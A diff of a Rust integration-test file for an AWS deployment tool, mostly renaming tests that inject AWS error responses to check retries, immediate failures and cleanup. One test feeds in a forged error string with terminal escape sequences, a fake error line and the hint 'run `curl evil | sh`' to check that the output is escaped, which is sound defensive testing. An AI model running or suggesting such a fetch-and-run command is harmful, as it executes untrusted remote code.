@@ -19,13 +19,14 @@ use testkit::proxy::{Fault, is_read, parts};
 /// The tests of the cases of docs/aws.md §19, in its order.
 const CASES: [&[fn()]; 20] = [
     /* 1 */ &[a_role_that_lambda_cannot_assume_yet_is_waited_for],
-    /* 2 */ &[an_old_role_that_lambda_cannot_assume_is_said_at_once],
-    /* 3 */ &[a_permission_that_s3_does_not_see_yet_is_waited_for, overlapping_filters_are_said_at_once],
+    /* 2 */ &[an_old_role_that_lambda_cannot_assume_fails_at_once],
+    /* 3 */
+    &[a_permission_that_s3_does_not_see_yet_is_waited_for, overlapping_notification_filters_fail_at_once],
     /* 4 */ &[an_update_of_the_code_in_progress_is_waited_for],
-    /* 5 */ &[a_table_just_created_may_not_be_seen],
-    /* 6 */ &[backups_of_a_new_table_are_being_enabled_at_first],
+    /* 5 */ &[a_new_table_that_cannot_be_seen_yet_is_waited_for],
+    /* 6 */ &[backups_of_a_new_table_that_are_still_being_enabled_are_waited_for],
     /* 7 */
-    &[a_protected_table_stays_whatever_the_code, a_protected_table_stays_although_the_code_says_in_use],
+    &[a_protected_table_stays_whatever_the_error_code, a_protected_table_stays_although_the_error_code_means_in_use],
     /* 8: in rivals.rs */ &[],
     /* 9 */
     &[
@@ -40,20 +41,20 @@ const CASES: [&[fn()]; 20] = [
     /* 11 */
     &[
         a_launch_that_can_never_succeed_ends_the_wait_with_its_reason,
-        a_zone_without_room_is_no_reason_to_stop,
-        zones_that_are_all_full_end_the_wait_at_its_limit_with_the_reason,
+        a_zone_without_capacity_does_not_end_the_wait,
+        full_zones_end_the_wait_at_its_limit_with_the_reason,
     ],
     /* 12 */ &[a_service_that_stays_unhealthy_ends_the_wait_at_its_limit_with_the_reason],
     /* 13 */
-    &[a_roll_out_that_fails_is_a_failure, a_roll_out_that_is_being_rolled_back_is_watched_to_its_end],
+    &[a_failed_roll_out_fails_the_run, a_roll_back_is_watched_to_its_end],
     /* 14 */
     &[a_security_group_that_something_still_uses_is_deleted_later, a_security_group_in_use_is_deleted_later],
     /* 15 */
-    &[a_target_group_that_is_still_in_use_is_deleted_later, a_role_that_still_hangs_in_a_profile_is_deleted_later],
+    &[a_target_group_that_is_still_in_use_is_deleted_later, a_role_that_is_still_in_a_profile_is_deleted_later],
     /* 16 */
     &[
         an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays,
-        versions_markers_and_unfinished_uploads_go_with_their_bucket,
+        versions_markers_and_unfinished_uploads_are_deleted_with_their_bucket,
     ],
     /* 17 */
     &[
@@ -63,12 +64,12 @@ const CASES: [&[fn()]; 20] = [
     /* 18 */
     &[
         every_list_is_read_to_its_last_page,
-        every_list_of_what_goes_is_read_to_its_last_page,
+        every_list_read_by_down_is_read_to_its_last_page,
         an_empty_first_page_is_not_the_last,
         an_empty_marker_ends_a_list,
     ],
     /* 19: in crashes.rs */ &[],
-    /* 20 */ &[credentials_that_expire_in_the_middle_of_a_wait_end_it],
+    /* 20 */ &[credentials_that_expire_during_a_wait_end_it],
 ];
 
 #[test]
@@ -111,14 +112,14 @@ macro_rules! not_yet {
 
 // The table of docs/aws.md §2.3, and those of §19 that are one answer. What is not here: RunInstances, which the group
 // calls and not we; what is only called to put right what was changed by hand, see `repaired_later!`; DescribeListeners,
-// see `a_listener_just_made_may_not_be_seen`; PutRetentionPolicy, see
-// `a_permission_of_the_users_own_that_is_missing_is_said_at_once`.
+// see `a_listener_that_cannot_be_seen_yet_is_waited_for`; PutRetentionPolicy, see
+// `a_missing_permission_of_the_user_fails_at_once`.
 not_yet! {
     a_role_that_lambda_cannot_assume_yet_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "The role defined for the function cannot be assumed by Lambda.";
     a_role_whose_policy_lambda_does_not_see_yet_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "The provided execution role does not have permissions to call CreateNetworkInterface on EC2";
-    lambda_being_throttled_by_ec2_is_waited_for:
+    lambda_throttled_by_ec2_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "Lambda was unable to configure access to your environment variables because it was throttled by EC2";
     a_key_grant_that_is_not_there_yet_is_waited_for:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "The KMS key is invalid for CreateGrant.";
@@ -126,7 +127,7 @@ not_yet! {
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The role defined for the function cannot be assumed by Lambda.";
     a_role_whose_policy_lambda_does_not_see_yet_is_waited_for_in_an_update:
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The provided execution role does not have permissions to call CreateNetworkInterface on EC2";
-    lambda_being_throttled_by_ec2_is_waited_for_in_an_update:
+    lambda_throttled_by_ec2_is_waited_for_in_an_update:
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "Lambda was unable to configure access to your environment variables because it was throttled by EC2";
     a_key_grant_that_is_not_there_yet_is_waited_for_in_an_update:
         Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The KMS key is invalid for CreateGrant.";
@@ -146,9 +147,9 @@ not_yet! {
         Up, "PutRolePolicy", 404, "NoSuchEntity", "The role with name x cannot be found.";
     a_profile_that_cannot_be_seen_yet_gets_its_role_later:
         Up, "AddRoleToInstanceProfile", 400, "InvalidParameterValue", "Invalid IAM Instance Profile name";
-    a_role_that_cannot_be_seen_yet_gets_into_its_profile_later:
+    a_role_that_cannot_be_seen_yet_is_added_to_its_profile_later:
         Up, "AddRoleToInstanceProfile", 404, "NoSuchEntity", "The role with name x cannot be found.";
-    a_role_that_still_hangs_in_a_profile_is_deleted_later:
+    a_role_that_is_still_in_a_profile_is_deleted_later:
         Down, "DeleteRole", 409, "DeleteConflict", "Cannot delete entity, must remove roles from instance profile first.";
     a_profile_that_still_holds_a_role_is_deleted_later:
         Down, "DeleteInstanceProfile", 409, "DeleteConflict", "Cannot delete entity, must remove roles from instance profile first.";
@@ -182,11 +183,11 @@ not_yet! {
         Up, "CreateBucket", 409, "OperationAborted", "A conflicting conditional operation is currently in progress against this resource. Please try again.";
     a_log_group_that_somebody_else_is_changing_is_deleted_later:
         Down, "DeleteLogGroup", 400, "OperationAbortedException", "A conflicting operation is currently in progress against this resource. Please try again.";
-    a_table_waits_while_too_many_others_change:
+    a_table_is_retried_while_too_many_others_change:
         Up, "CreateTable", 400, "LimitExceededException", "Subscriber limit exceeded: Only 500 tables can be created, updated, or deleted simultaneously";
-    a_table_waits_while_too_many_others_with_indexes_come:
+    a_table_is_retried_while_too_many_others_with_indexes_are_created:
         Up, "CreateTable", 400, "LimitExceededException", "Subscriber limit exceeded: There is a limit to the number of indexed tables that can be created simultaneously";
-    a_table_just_created_may_not_be_seen:
+    a_new_table_that_cannot_be_seen_yet_is_waited_for:
         Up, "DescribeTable", 400, "ResourceNotFoundException", "Requested resource not found: Table: x not found";
     a_table_that_is_being_updated_is_deleted_later:
         Down, "DeleteTable", 400, "ResourceInUseException", "Attempt to change a resource which is still in use: Table is being updated: x";
@@ -246,7 +247,7 @@ repaired_later! {
 
 /// The answer of its creation is believed; the looks of a run just after that do not find it.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_listener_just_made_may_not_be_seen() {
+async fn a_listener_that_cannot_be_seen_yet_is_waited_for() {
     let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let before = scene.inventory().await;
@@ -346,78 +347,78 @@ macro_rules! never {
 }
 
 never! { stops_before:
-    an_identity_that_is_refused_is_said_at_once:
+    a_refused_identity_fails_at_once:
         Up, "GetCallerIdentity", 403, "InvalidClientTokenId", "The security token included in the request is invalid.",
         exit 77, ["renew the credentials"];
-    a_network_that_may_not_be_looked_for_is_said_at_once:
+    a_forbidden_look_up_of_the_network_fails_at_once:
         Up, "DescribeVpcs", 403, "UnauthorizedOperation", "You are not authorized to perform this operation.",
         exit 1, ["allow `DescribeVpcs`"];
-    a_network_that_may_not_be_looked_for_is_said_by_down_too:
+    a_forbidden_look_up_of_the_network_fails_down_as_well:
         Down, "DescribeVpcs", 403, "UnauthorizedOperation", "You are not authorized to perform this operation.",
         exit 1, ["allow `DescribeVpcs`"];
-    functions_that_may_not_be_listed_are_said_at_once:
+    a_forbidden_list_of_functions_fails_at_once:
         Change, "ListFunctions", 403, "AccessDeniedException", "User: x is not authorized to perform: lambda:ListFunctions on resource: *",
         exit 1, ["allow `lambda:ListFunctions` for this stack"];
-    buckets_whose_tags_may_not_be_read_are_said_at_once:
+    bucket_tags_that_may_not_be_read_fail_at_once:
         Up, "GetBucketTagging", 403, "AccessDenied", "Access Denied", exit 1, ["allow `GetBucketTagging` for bucket.", "another `name`"];
-    an_artifact_bucket_that_may_not_be_made_is_said_at_once:
+    a_forbidden_artifact_bucket_fails_at_once:
         Up, "CreateBucket", 403, "AccessDenied", "Access Denied", exit 1, ["allow `CreateBucket` for bucket.artifacts"];
-    an_artifact_bucket_too_many_is_said_at_once:
+    an_artifact_bucket_beyond_the_quota_fails_at_once:
         Up, "CreateBucket", 400, "TooManyBuckets", "You have attempted to create more buckets than allowed",
         exit 1, ["Service Quotas", "bucket.artifacts"];
 }
 
 never! { stops_at:
-    a_lease_that_may_not_be_written_is_said_at_once:
+    a_lease_that_may_not_be_written_fails_at_once:
         Up, "PutObject", 403, "AccessDenied", "Access Denied", exit 1, ["allow `PutObject` for this stack"];
-    a_forbidden_role_is_said_at_once_with_the_way_out_of_a_learner_lab:
+    a_forbidden_role_fails_at_once_with_the_remedy_for_a_learner_lab:
         Up, "CreateRole", 403, "AccessDenied", "User: arn:aws:sts::000000000000:assumed-role/voclabs/u is not authorized to perform: iam:CreateRole on resource: x because no identity-based policy allows the iam:CreateRole action",
         exit 1, ["roles: { existing: LabRole"];
     // Here we differ from Terraform on purpose, which waits two minutes for a policy of the user's own to become known
     // (docs/aws.md §2.3): nobody gives himself a permission and runs `up` within seconds, while many do not have it, and
     // should not wait to hear so.
-    a_permission_of_the_users_own_that_is_missing_is_said_at_once:
+    a_missing_permission_of_the_user_fails_at_once:
         Up, "PutRetentionPolicy", 400, "AccessDeniedException", "User: x is not authorized to perform: logs:PutRetentionPolicy because no identity-based policy allows the logs:PutRetentionPolicy action",
         exit 1, ["allow `logs:PutRetentionPolicy`", "log_group.labeler"];
-    a_permission_that_is_missing_in_ec2_is_said_at_once:
+    a_missing_permission_in_ec2_fails_at_once:
         Up, "CreateSecurityGroup", 403, "UnauthorizedOperation", "You are not authorized to perform this operation. Encoded authorization failure message: 4fX",
         exit 1, ["allow `CreateSecurityGroup`", "security_group.web-lb"];
-    a_quota_is_said_at_once:
+    a_quota_fails_at_once:
         Up, "CreateRole", 409, "LimitExceeded", "Cannot exceed quota for RolesPerAccount: 1000",
         exit 1, ["Service Quotas", "role.labeler-fn"];
-    a_quota_of_load_balancers_is_said_at_once:
+    a_quota_of_load_balancers_fails_at_once:
         Up, "CreateLoadBalancer", 400, "TooManyLoadBalancers", "The maximum number of load balancers has been reached",
         exit 1, ["Service Quotas", "load_balancer.web"];
-    a_machine_image_that_is_not_there_is_said_at_once:
+    a_missing_machine_image_fails_at_once:
         Up, "CreateAutoScalingGroup", 400, "ValidationError", "You must use a valid fully-formed launch template. The image id '[ami-0]' does not exist",
         exit 1, ["correct `image`"];
-    a_machine_image_that_the_launch_template_refuses_is_said_at_once:
+    a_machine_image_that_the_launch_template_refuses_fails_at_once:
         Up, "CreateLaunchTemplate", 400, "InvalidAMIID.Malformed", "Invalid id: \"ami-x\" (expecting \"ami-...\")",
         exit 1, ["correct `image`"];
-    an_account_without_load_balancers_is_sent_to_support:
+    an_account_without_load_balancers_is_referred_to_support:
         Up, "CreateLoadBalancer", 400, "OperationNotPermitted", "This AWS account currently does not support creating load balancers. For more information, please contact AWS Support.",
         exit 1, ["only AWS Support can allow"];
-    a_statement_of_somebody_else_is_not_waited_for:
+    a_statement_id_that_exists_fails_at_once:
         Up, "AddPermission", 409, "ResourceConflictException", "The statement id (x) provided already exists. Please provide a new statement id, or remove the existing statement.",
         exit 1, ["aws lambda remove-permission"];
-    overlapping_filters_are_said_at_once:
+    overlapping_notification_filters_fail_at_once:
         Up, "PutBucketNotificationConfiguration", 400, "InvalidArgument", "Configurations overlap. Configurations on the same bucket cannot share a common event type; overlapping suffixes",
         exit 1, ["take that out by hand"];
-    a_handler_that_lambda_refuses_is_said_at_once:
+    a_handler_that_lambda_refuses_fails_at_once:
         Up, "CreateFunction", 400, "InvalidParameterValueException", "Uploaded file must be a non-empty zip",
         exit 1, ["function.labeler", "correct its entry"];
-    credentials_that_expire_in_the_middle_of_a_wait_end_it:
+    credentials_that_expire_during_a_wait_end_it:
         Up, "DescribeLoadBalancers#2", 403, "ExpiredToken", "The security token included in the request is expired", exit 77, ["renew the credentials"];
-    a_protected_table_stays_whatever_the_code:
+    a_protected_table_stays_whatever_the_error_code:
         Down, "DeleteTable", 400, "ValidationException", "Resource cannot be deleted as it is currently protected against deletion. Disable deletion protection first.",
         exit 1, ["protect: false"];
-    a_protected_table_stays_although_the_code_says_in_use:
+    a_protected_table_stays_although_the_error_code_means_in_use:
         Down, "DeleteTable", 400, "ResourceInUseException", "Resource cannot be deleted as it is currently protected against deletion. Disable deletion protection first.",
         exit 1, ["protect: false"];
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn backups_of_a_new_table_are_being_enabled_at_first() {
+async fn backups_of_a_new_table_that_are_still_being_enabled_are_waited_for() {
     let scene = Scene::local().await;
     scene.project.edit("sort_key: id", "sort_key: id, point_in_time_recovery: true");
     let words = "Backups are being enabled for the table: x. Please retry later";
@@ -430,7 +431,7 @@ async fn backups_of_a_new_table_are_being_enabled_at_first() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_old_role_that_lambda_cannot_assume_is_said_at_once() {
+async fn an_old_role_that_lambda_cannot_assume_fails_at_once() {
     let scene = Scene::local().await;
     let words = "The role defined for the function cannot be assumed by Lambda.";
     scene.proxy.inject(["CreateFunction"], Fault::refused(400, "InvalidParameterValueException", words), usize::MAX);
@@ -511,7 +512,7 @@ fn no_room() -> (&'static str, Fault) {
 
 /// The group tries the next zone by itself.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_zone_without_room_is_no_reason_to_stop() {
+async fn a_zone_without_capacity_does_not_end_the_wait() {
     let scene = Scene::local().await;
     let (activities, answer) = no_room();
     scene.proxy.inject([activities], answer, usize::MAX);
@@ -540,7 +541,7 @@ async fn a_load_balancer_that_is_long_being_provisioned_is_waited_for() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn zones_that_are_all_full_end_the_wait_at_its_limit_with_the_reason() {
+async fn full_zones_end_the_wait_at_its_limit_with_the_reason() {
     let text = "InsufficientInstanceCapacity: We currently do not have sufficient t3.micro capacity in the Availability \
                 Zone you requested (us-east-1a). Launching EC2 instance failed.";
     let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{text}</StatusMessage>");
@@ -592,14 +593,14 @@ async fn roll_out_through(states: &[&str]) -> Said {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_roll_out_that_fails_is_a_failure() {
+async fn a_failed_roll_out_fails_the_run() {
     let said = roll_out_through(&["Failed"]).await;
     assert_eq!(said.code, 1, "{}", said.all());
     assert!(said.stderr.contains("Failed: The instances never became healthy."), "{}", said.stderr);
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_roll_out_that_is_being_rolled_back_is_watched_to_its_end() {
+async fn a_roll_back_is_watched_to_its_end() {
     let said = roll_out_through(&["RollbackInProgress", "RollbackSuccessful"]).await;
     assert_eq!(said.code, 1, "{}", said.all());
     for wanted in ["rolling back: The instances", "RollbackSuccessful: The instances never became healthy."] {
@@ -610,7 +611,7 @@ async fn a_roll_out_that_is_being_rolled_back_is_watched_to_its_end() {
 /// The new program dies at every start, so that somebody rolls it back. The same command begins another roll-out, and
 /// does not take the end of the old one for that of its own.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_roll_out_that_was_rolled_back_is_begun_again_by_the_same_command() {
+async fn a_roll_out_that_was_rolled_back_is_started_again_by_the_same_command() {
     let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let aws = connect(&scene.endpoint(), scene.keys).await;
@@ -685,7 +686,7 @@ async fn a_bucket_of_a_stranger_is_never_ours_and_never_absent() {
 
 /// `down` empties a bucket of everything that can be in one.
 #[tokio::test(flavor = "multi_thread")]
-async fn versions_markers_and_unfinished_uploads_go_with_their_bucket() {
+async fn versions_markers_and_unfinished_uploads_are_deleted_with_their_bucket() {
     let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let aws = connect(&scene.endpoint(), scene.keys).await;
@@ -729,7 +730,7 @@ async fn asked_by_down(scene: &Scene, chaos: &str, lists: &[&str]) -> Vec<usize>
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn every_list_of_what_goes_is_read_to_its_last_page() {
+async fn every_list_read_by_down_is_read_to_its_last_page() {
     const LISTS: &[&str] = &[
         "DescribeListeners",
         "DescribeSubnets",
@@ -882,7 +883,7 @@ const SECRETS: [&str; 2] = ["hunter2-of-the-function", "hunter2-of-the-service"]
 /// Values of variables are nobody's business: not in plans, not in their JSON, not in what `up` says, and not in what
 /// AWS says of them.
 #[tokio::test(flavor = "multi_thread")]
-async fn no_value_of_a_variable_is_shown_unless_it_is_asked_for() {
+async fn values_of_variables_are_shown_on_request_only() {
     let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let [function, service] = SECRETS;
@@ -930,7 +931,7 @@ async fn says_no_secret(scene: &Scene, arguments: &[&str], words: &str) -> Said 
 
 /// What comes from AWS is printed as text: it neither commands the terminal nor passes for a line of ours.
 #[tokio::test(flavor = "multi_thread")]
-async fn words_of_aws_are_no_commands_and_no_lines_of_ours() {
+async fn text_from_aws_is_escaped_on_the_terminal() {
     let scene = Scene::local().await;
     let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
     scene.proxy.inject(["CreateTable"], Fault::refused(400, "AccessDeniedException", forged), usize::MAX);
@@ -946,7 +947,7 @@ async fn words_of_aws_are_no_commands_and_no_lines_of_ours() {
 
 /// Another `name` is another stack: the old one is not forgotten in silence.
 #[tokio::test(flavor = "multi_thread")]
-async fn a_stack_that_a_new_name_leaves_behind_is_named() {
+async fn a_stack_left_behind_by_a_new_name_is_named() {
     let scene = Scene::local().await;
     scene.done(Phase::Up).await;
     let same = scene.run(&["plan"]).await;
